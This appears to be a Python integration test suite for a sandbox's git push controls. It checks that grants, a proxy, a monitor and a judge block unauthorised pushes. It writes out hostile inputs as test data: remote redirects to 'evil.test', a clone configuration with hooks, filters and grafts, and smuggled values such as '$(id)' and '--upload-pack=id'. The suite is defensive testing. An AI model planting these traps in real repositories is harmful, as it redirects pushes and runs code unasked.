#!/usr/bin/env python3
"""A table of pushes: what leaves is what was declared, verified and judged, or
nothing does, and which part of the suite decided that.  Real processes, and a
GitHub of real parts; where a row is held elsewhere, its test is named and must
be there.  The table comes last, one row a line:

    # row {"push": ..., "verdict": ..., "layer": ..., "word": ..., "test": ...}

The layer is read from the journal, not from what was expected of it.  One test
is one function; all of them share a suite.
"""
import json
import os
import re
import shlex
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.environ["SBX_SRC"] + "/tests/lib")
import egress  # noqa: E402
import fakegithub  # noqa: E402
import mcp  # noqa: E402

tap = mcp.Tap()
ok = tap.ok
ROWS = []
ZERO = "0" * 40
SECRET = "AKIA" + "Q3EXAMPLE7" + "ZZYYXX"
FILES = {"a": "1\n", "b": "2\n", "d/e": "3\n", "crlf.txt": "x\ny\n",
         "old": "key = \"%s\"\n" % SECRET, "big.psd": "not there\n",
         ".gitattributes": "*.txt text\n*.psd filter=lfs diff=lfs -text\n",
         "sub": ("160000", "1" * 40)}


class Place:
    def __init__(self):
        self.ca = egress.Authority()
        self.gh = fakegithub.Github(self.ca, validate=False)
        self.repo = self.gh.repo("acme/secret", private=True, files=FILES)
        self.gh.repo("acme/other", private=True, files=FILES)
        app = self.gh.app(["acme/secret"])
        self.conf = self.gh.conf() + (
            "allowed_repo acme/secret\nallowed_repo acme/renamed\n"
            "verify_gate off\ngithub_app %d %d %s\n" % (
                app.id, app.installation, app.pem))
        self.base, self.n, self.s, self.got = self.repo.tip(), 0, None, []

    def start(self):
        self.s = mcp.Suite(conf=self.conf)
        self.box, self.at = self.new_box()

    def new_box(self):
        r = self.s.call("sandbox_initialize", allow_network=True,
                        clone_repo="acme/secret", deps=False, timeout=120)
        if r["status"] != "ok":
            raise RuntimeError(r)
        return r["container_id"], r["clone"]["clone_path"]

    def sh(self, *commands, box=None, **kw):
        """(status, output)"""
        r = self.s.call("sandbox_exec", container_id=box or self.box,
                        timeout=120, working_dir=self.at, commands=[
                            c + " 2>&1" for c in commands], **kw)
        return r["status"], r.get("output", "")

    def branch(self):
        """a name that nobody had"""
        self.n += 1
        return "t%d" % self.n

    def args(self, files, branch, **more):
        return {"container_id": self.box, "repo": "acme/secret",
                "branch": branch, "message": "Change it.", "files": files,
                "working_dir": self.at, **more}

    def publish(self, files, branch, **more):
        """its result, when it has ended"""
        args = self.args(files, branch, **more)
        r = self.s.call("publish", timeout=120, **args)
        for _ in range(10):
            if r.get("status") != "running":
                break
            r = self.s.call("publish", timeout=120, run_id=r["run_id"], **args)
        return r

    def tip(self, branch):
        try:
            return self.repo.tip("refs/heads/" + branch)
        except subprocess.CalledProcessError:
            return ""

    def refs(self):
        return self.repo.git("for-each-ref")

    def files(self, commit):
        """{path: (mode, bytes)} that differ from its first parent's"""
        out = self.repo.git("diff-tree", "-r", "-z", "--no-renames", commit +
                            "^1", commit)
        v, got = out.split("\0")[:-1], {}
        for meta, path in zip(v[::2], v[1::2]):
            mode, oid = meta.split()[1], meta.split()[3]
            got[path] = None if mode == "000000" else (mode, subprocess.run(
                ["git", "-C", self.repo.path, "cat-file", "blob", oid],
                check=True, stdout=subprocess.PIPE).stdout)
        return got

    def mark(self):
        return self.s.journal()[-1]["seq"]

    def since(self, mark, done=lambda r: True):
        """the records after it, once done() finds there what it looks for"""
        def some():
            self.got = [r for r in self.s.journal() if r["seq"] > mark]
            return done(self.got)
        self.s.wait_for(some, 3)
        return self.got

    def told(self, mark, r):
        """those of a publication of this result"""
        if r.get("code") == "bad_argument":
            return self.since(mark)
        return self.since(mark, lambda v: [
            x for x in v if x["op"] == "publish" and
            x["phase"] in ("end", "refused")])

    def close(self):
        if self.s:
            self.s.__exit__()
        self.gh.close()
        self.ca.close()


P = None


# --- who decided --------------------------------------------------------------------

def field(records, op, **want):
    """the records of an operation with these fields"""
    return [r for r in records if r["op"] == op and all(
        r["fields"].get(k, r.get(k)) == v for k, v in want.items())]


def denied_by(records, said):
    """of what went through the proxy: (layer, why), or None.  What is refused
    again and again is one record, which comes late: what was said counts."""
    for r in field(records, "exchange", phase="end"):
        if r["fields"].get("what") == "not_granted":
            return "courier", r["fields"]["reason"]
    m = re.search(r"BLOCKED by sbx: (?:Git )?([^.:;)\n]*)", said)
    if m:
        return "proxy", m[1].strip()
    return ("proxy", "403") if " 403" in said else None


def published_by(records, r):
    """(layer, word) of a publication's result"""
    code = r.get("code", "")
    if r.get("status") == "ok":
        return "remote", r["outcome"]
    if not field(records, "publish"):
        return "worker", code
    if field(records, "publish", phase="refused"):
        return "monitor", code
    if [v for v in field(records, "publish", phase="verdict") if v["code"]]:
        return "judge", code
    end = field(records, "publish", phase="end")
    word = end[-1]["fields"]["step"] if end else code
    if word in ("mode", "missing"):
        return "sandbox", word
    if word in ("push", "unknown"):
        return denied_by(records, r["error"]) or ("remote", word)
    if word in ("fetch", "no_such_base", "base"):
        return "publisher", word
    return "monitor", word


def row(what, verdict, layer, word, good, got=None, decided=None, test=None):
    """decided: (layer, word) as the journal has it"""
    decided = decided or (layer, word)
    good = bool(good) and decided == (layer, word)
    ROWS.append({"push": what, "verdict": verdict if good else "?",
                 "layer": decided[0], "word": decided[1],
                 "test": test or "live"})
    ok(good, "%s: %s by %s" % (what, verdict, layer), (decided, got))


# --- git push by hand, with an operator's grant ---------------------------------------

def grant(new, ref="refs/heads/g", *options, box=None):
    r = P.s.wait_for(lambda: P.s.sbx(     # a proxy may be on its way
        "grant", *options, box or P.box, "acme/secret", ref, new
        ).returncode == 0)
    if not r:
        raise RuntimeError("no grant")


def pushed(what, layer, word, args, refs=None, box=None):
    """a push that must not change the remote, or (refs) only so"""
    mark, before = P.mark(), P.refs()
    said = P.sh("git push " + args, box=box)
    by = denied_by(P.since(mark), said[1])
    if refs is None:
        row(what, "refused", layer, word, said[0] != "ok" and
            P.refs() == before, said, by)
    else:
        row(what, "lands", layer, word, said[0] == "ok" and all(
            P.tip(k) == v for k, v in refs.items()), said, by)


def test_direct():
    P.sh("git config user.name x", "git config user.email x@x",
         "git checkout -q -b work", "echo 2 >>a", "git commit -qam one")
    new = P.sh("git rev-parse HEAD")[1].strip()
    none = "no grant is open for a git write of acme/secret"
    pushed("git push without a grant", "proxy", none, "origin HEAD:g")
    P.repo.git("config", "receive.certNonceSeed", "x")
    P.repo.git("config", "receive.advertisePushOptions", "true")
    P.sh("printf '#!/bin/sh\\ncat >/dev/null; echo \"[GNUPG:] SIG_CREATED \" "
         ">&2; echo -----BEGIN PGP SIGNATURE-----' >/tmp/gpg",
         "chmod +x /tmp/gpg", "git config gpg.program /tmp/gpg",
         "git config user.signingKey x")
    ref, commit = ("it changes another ref than the granted one",
                   "it pushes another commit than the granted one")
    for what, why, args in (
            ("another ref", ref, "origin HEAD:h"),
            ("a tag", ref, "origin HEAD:refs/tags/g"),
            ("two refs, one of them granted", "it changes more than one ref",
             "origin HEAD:g HEAD:h"),
            ("all branches", ref, "--all origin"),
            ("a mirror", ref, "--mirror origin"),
            ("a deletion", "it deletes a ref", "origin --delete main"),
            ("another commit", commit, "origin HEAD^:refs/heads/g"),
            ("another commit by force", commit,
             "-f origin HEAD^:refs/heads/g"),
            ("a push option", "it has push options, which are never granted",
             "-o ci.skip origin HEAD:g"),
            ("a push certificate", "403", "--signed=yes origin HEAD:g")):
        grant(new)      # each may be read ten times
        pushed("grant of a branch; " + what, "proxy", why, args)
    for k in "certNonceSeed", "advertisePushOptions":
        P.repo.git("config", "--unset", "receive." + k)
    pushed("grant of a branch; another repository", "proxy",
           "no grant is open for a git write of acme/other",
           "https://github.com/acme/other.git HEAD:g")
    other, _ = P.new_box()
    pushed("grant of a branch; another sandbox", "proxy", none,
           "origin %s:refs/heads/g" % P.base, box=other)
    P.s.call("sandbox_stop", container_id=other, force=True)
    grant(new)
    requests(new)
    pushed("exactly what is granted", "remote", "granted",
           "origin HEAD:g", refs={"g": new})
    P.s.sbx("lockdown")
    pushed("grants that a lockdown ended", "proxy", "403", "origin HEAD:g")
    P.s.sbx("lockdown", "off")
    P.sh("git commit -qm two --allow-empty")
    new = P.sh("git rev-parse HEAD")[1].strip()
    grant(new)
    pushed("grant of a new branch; it exists", "proxy",
           "the ref is there already, and was granted as a new one (`sbx "
           "grant -o` with its commit grants the change", "origin HEAD:g")
    P.s.sbx("lockdown")
    P.s.sbx("lockdown", "off")
    grant(new, "refs/heads/late", "-t", "1")
    time.sleep(1.2)
    pushed("after the time of its grant", "proxy", none, "origin HEAD:late")
    grant(new, "refs/heads/once")
    pushed("the first use of a grant", "remote", "granted",
           "origin HEAD:once", refs={"once": new})
    pushed("the second", "proxy", none, "origin HEAD^:refs/heads/once")
    redirected(new)
    said = {r["fields"]["code"] for r in P.s.journal()
            if r["op"] == "egress" and "code" in r["fields"]}
    ok({"no_grant", "push_not_granted", "push_encoded", "locked"} <= said,
       "refusals are on record", said)


def requests(new):
    """what git would not send, in the name of the grant"""
    url = "https://github.com/acme/secret.git/git-receive-pack"
    curl = "curl -sS -m 20 -o /tmp/out -w ' %{http_code} ' -H " \
        "'Content-Type: application/x-git-receive-pack-request' "
    line = "%s %s refs/heads/g\\000report-status" % (ZERO, new)
    P.sh("printf %s | gzip >/tmp/body.gz" % shlex.quote(
        "%04x%s0000PACK" % (len(line) + 1, line)))
    for what, verdict, layer, word, good, command in (
            ("a body that is compressed", "refused", "proxy",
             "the push is compressed, so its commands cannot be read",
             lambda v: not v, curl + "-H 'Content-Encoding: gzip' "
             "--data-binary @/tmp/body.gz %s; cat /tmp/out" % url),
            ("a probe of four bytes", "goes on, and uses nothing", "remote",
             "probe", lambda v: [x.sent for x in v] == [4],
             curl + "--data-binary 0000 " + url),
            ("an upload to LFS", "refused", "proxy",
             "LFS is not passed", lambda v: not v,
             "curl -sS -m 20 -w ' %%{http_code} ' -H 'Content-Type: "
             "application/vnd.git-lfs+json' -d '{\"operation\": \"upload\", "
             "\"objects\": []}' %s/info/lfs/objects/batch" %
             url.replace("/git-receive-pack", ""))):
        mark, n = P.mark(), len(P.gh.log)
        said = P.sh(command)
        r = P.since(mark)
        row(what, verdict, layer, word, good([
            x for x in P.gh.log[n:] if x.method == "POST"]) and
            not field(r, "grant"), (said, r), denied_by(r, said[1]))


def redirected(new):
    """a grant leads nowhere but where it says"""
    evil = "git config url.https://evil.test/"
    for what, setup in (
            ("insteadOf", evil + ".insteadOf https://github.com/"),
            ("a changed origin", evil.replace("config", "config --unset") +
             ".insteadOf; git config remote.origin.url https://evil.test/"
             "acme/secret"),
            ("pushInsteadOf", "git config remote.origin.url https://"
             "github.com/acme/secret.git; " + evil + ".pushInsteadOf "
             "https://github.com/")):
        grant(new, "refs/heads/r")
        P.sh(setup)
        pushed("grant of a branch; " + what, "proxy", "403",
               "origin HEAD:r")
    P.sh(evil.replace("config", "config --unset") + ".pushInsteadOf")
    r = P.s.sbx("grant", P.box, "acme/other", "refs/heads/x", new)
    row("a grant for a repository that is not listed", "refused", "monitor",
        "allowed_repo", r.returncode != 0 and "allowed_repo" in r.stderr, r)
    P.sh("git checkout -q -f main")


# --- publish: what is in it -------------------------------------------------------------

def reset():
    P.sh("git checkout -q -f main; git reset -q --hard %s; git clean -qfdx"
         % P.base)


def refused(what, layer, word, files, setup=(), branch=None, verdict="refused",
            also=None, **more):
    """nothing has reached the remote, it says why, and how to go on"""
    P.sh(*setup) if setup else None
    mark, before = P.mark(), P.refs()
    r = P.publish(files, branch or P.branch(), **more)
    good = r.get("status") == "error" and len(r.get("error", "")) > 15 and \
        r.get("recommended_next_action") and P.refs() == before and \
        (also is None or also in r["error"])
    row(what, verdict, layer, word, good, r, published_by(P.told(mark, r), r))
    reset() if setup else None
    return r


def goes(what, want, files=None, setup=(), branch=None, keep=False, **more):
    """it is at the remote, and changes that and nothing else; want: {path:
    (mode, bytes) or None}, or a function of what changed"""
    P.sh(*setup) if setup else None
    branch, mark = branch or P.branch(), P.mark()
    others = [x for x in P.refs().split("\n") if not x.endswith("/" + branch)]
    r = P.publish(files or list(want), branch, **more)
    got = P.files(r["commit"]) if r.get("outcome") == "pushed" else None
    good = got is not None and P.tip(branch) == r["commit"] and \
        (want(got) if callable(want) else got == want) and \
        [x for x in P.refs().split("\n") if not x.endswith("/" + branch)] == \
        others
    row(what, "lands", "remote", "pushed", good, (r, got),
        published_by(P.told(mark, r), r))
    if not keep:
        reset()
    return r


def text(data, mode="100644"):
    return mode, data.encode()


def test_publish():
    r = goes("ordinary, a new branch", {"a": text("1\n2\n")}, branch="fix",
             setup=["echo 2 >>a"], keep=True)
    goes("ordinary, on top of it", {"a": text("1\n2\n3\n")}, branch="fix",
         setup=["echo 3 >>a"])
    row("its parent", "is what it was made on", "remote", "pushed",
        P.repo.git("rev-parse", "fix^") == r["commit"])
    goes("a deletion and a mode", {"b": None, "d/e": text("3\n", "100755")},
         setup=["rm b", "chmod 755 d/e"])
    goes("a secret that the base has already",
         {"old": text("key = \"%s\"\nmore\n" % SECRET)},
         setup=["echo more >>old"])
    refused("a secret in an added line", "judge", "secret", ["a"],
            ["echo 'k = \"%s\"' >>a" % SECRET])
    refused("a path in a submodule (gitlink)", "judge", "mode", ["sub/x"])
    refused("a submodule itself", "judge", "sensitive", ["sub"],
            ["rmdir sub", "echo x >sub"])
    refused("a file under LFS", "judge", "attribute", ["big.psd"],
            ["echo x >>big.psd"])
    refused("3 GiB in one file", "judge", "too_large", ["huge"],
            ["truncate -s 3G huge"])
    refused("20,001 files", "worker", "bad_argument",
            ["f%d" % i for i in range(20001)])
    refused("the default branch", "monitor", "protected_ref", ["a"],
            branch="main")


def test_clone_is_hostile():
    """one publication out of a clone with all that git can be made to do"""
    P.sh("git config remote.origin.url https://evil.test/x",
         "git config remote.origin.push '+refs/heads/*:refs/heads/*'",
         "git config remote.origin.mirror true",
         "git config url.https://evil.test/.insteadOf https://github.com/",
         "git config push.followTags true", "git tag evil",
         "git config push.recurseSubmodules on-demand",
         "git config filter.evil.clean 'echo evil'",
         "git config core.attributesFile /tmp/attr",
         "git config core.autocrlf true", "git config core.hooksPath "
         "/tmp/hooks", "git config core.fsmonitor /tmp/hooks/f",
         "git config commit.gpgSign true",
         "git config include.path /tmp/more",
         "printf '[core]\\nworktree = /etc\\n' >/tmp/more",
         "echo '* filter=evil text eol=crlf' | tee /tmp/attr "
         ">.git/info/attributes", "mkdir -p /tmp/hooks",
         "for h in pre-push pre-commit commit-msg post-checkout f; do printf "
         "'#!/bin/sh\\ntouch /tmp/ran-%s\\n' $h >/tmp/hooks/$h; chmod "
         "+x /tmp/hooks/$h; done",
         "git init -q /tmp/alt", "echo /tmp/alt/.git/objects "
         ">.git/objects/info/alternates",
         "c=$(git -c user.name=x -c user.email=x@x commit-tree -m evil "
         "HEAD^{tree} </dev/null) && git replace -f HEAD $c && echo \"$(git "
         "rev-parse HEAD) $c\" >.git/info/grafts; :",
         "echo 2 >>a", "printf 'u\\r\\nv\\r\\n' >crlf.txt",
         "echo stray >b")
    want = {"a": text("1\n2\n"), "crlf.txt": text("u\nv\n")}
    n = len(ROWS)
    r = goes("a clone full of traps", want)
    if ROWS[n]["verdict"] != "lands":
        return
    commit = P.repo.git("cat-file", "commit", r["commit"])
    ran = P.sh("ls /tmp")[1]
    for what, good in (
            ("hooks", not [x for x in ran.split() if x.startswith("ran-") and
                           x != "ran-f"]),
            ("remote, insteadOf, mirror and push of its configuration",
             P.repo.git("tag") == "" and not [
                 x for x in P.gh.log if "evil" in x.host]),
            ("attributes and filters of its own", r["modified"] == 2),
            ("alternates", not P.repo.git("count-objects", "-v").count(
                "alternate:")),
            ("grafts and replaced objects", commit.count("parent ") == 1 and
             "parent %s\n" % P.base in commit),
            ("what is changed and not declared", "b" not in P.files(
                r["commit"]) and "b" in r["worktree_leftover"]),
            ("include.path, autocrlf, gpgSign, fsmonitor",
             "gpgsig" not in commit)):
        row("a clone with " + what, "has no part in it", "judge", "pushed",
            good, (commit, ran, r))
    P.sh("rm -f .git/info/grafts .git/objects/info/alternates; git replace "
         "-d HEAD; cd / && rm -rf %s/.git/config" % P.at)
    P.s.call("sandbox_stop", container_id=P.box, force=True)
    P.box, P.at = P.new_box()


def test_names():
    long, deep = "n" * 255, "/".join("d" * 30 for _ in range(127))
    odd = ["q\"uote", "sp ace", "%s", "$(id)", "-dash", "'", "*",
           "\u65e5\u672c/\U0001f600", long, deep]
    quoted = " ".join(shlex.quote("./" + x) for x in odd)
    goes("odd names, one of 255 bytes, one 127 deep",
         {x: text("x\n") for x in odd}, setup=[
             "for f in %s; do mkdir -p -- \"$(dirname -- \"$f\")\" && echo x "
             ">\"$f\" || exit 1; done" % quoted])
    refused("a path of 4,096 bytes", "judge", "path",
            ["/".join("d" * 31 for _ in range(128))])
    refused("a path 129 deep", "judge", "path", ["/".join("d" * 129)])
    for what, name in (("a newline", "n\nl"), ("a tab", "t\tt"),
                       ("a backslash", "a\\b"), ("an escape", "\x1b[m")):
        refused(what + " in a name", "judge", "path", [name])
    for what, files in (("a name twice, by case", ["A"]),
                        ("by Unicode's normal form",
                         ["e\u0301", "\u00e9"])):
        refused(what, "judge", "path", files, ["touch " + " ".join(
            shlex.quote(f) for f in files)])


def test_words():
    """branches and messages"""
    for b in "-x", "a@{1}", "a.lock", "a..b", "a b", "a//b", ".a", "a~1", \
            "@", "a\n", "x" * 300:
        refused("the branch %r" % b[:12], "worker", "bad_argument", ["a"],
                branch=b)
    for b in "HEAD", "refs/heads/x", "\u00e4", P.base:
        refused("the branch %r" % b[:12], "monitor", "malformed", ["a"],
                branch=b)
    for b in "--upload-pack=id", "-x", "a:b", "a@{0}":
        refused("the base branch %r" % b, "worker", "bad_argument", ["a"],
                base_branch=b)
    refused("a NUL in the message", "worker", "bad_argument", ["a"],
            message="good\0evil")
    for what, word, message in (
            ("a return", "malformed", "a\r\nb"),
            ("an escape", "malformed", "\x1b[31m")):
        refused(what + " in the message", "monitor", word, ["a"],
                message=message)
    said = "From me\n\nFrom 1234 Mon\n---\ndiff --git a/x b/x\n# no comment\n" \
        "tree %s\nparent %s\nSigned-off-by: A <a@b>\nCo-authored-by: B <b@c>" \
        % (ZERO, ZERO)
    r = goes("headers and trailers in the message", {"a": text("1\nm\n")},
             setup=["echo m >>a"], message=said)
    if r.get("commit"):
        raw = P.repo.git("cat-file", "commit", r["commit"])
        row("such a message", "is text of the commit, and no more", "judge",
            "pushed", raw.endswith("\n\n" + said) and raw.split("\n\n")[
                0].count("parent ") == 1, raw)


def main():
    global P    # pylint: disable=global-statement
    try:
        P = Place()
    except egress.Unable as e:
        tap.skip(str(e), "a fake GitHub")
        tap.done()
        return 0
    try:
        P.start()
        for name, test in list(globals().items()):
            if not name.startswith("test_") or (
                    len(sys.argv) > 1 and name not in sys.argv):
                continue
            began = time.monotonic()
            try:
                test()
            except Exception as e:  # pylint: disable=broad-except
                ok(False, "%s: %r" % (name, e))
            print("# %s: %.1f s" % (name, time.monotonic() - began))
        ok(not P.gh.errors, "the fake made no mistake", P.gh.errors)
    finally:
        P.close()
    for r in ROWS:
        print("# row " + json.dumps(r, ensure_ascii=True), flush=True)
    tap.done()
    return tap.bad > 0


sys.exit(main())
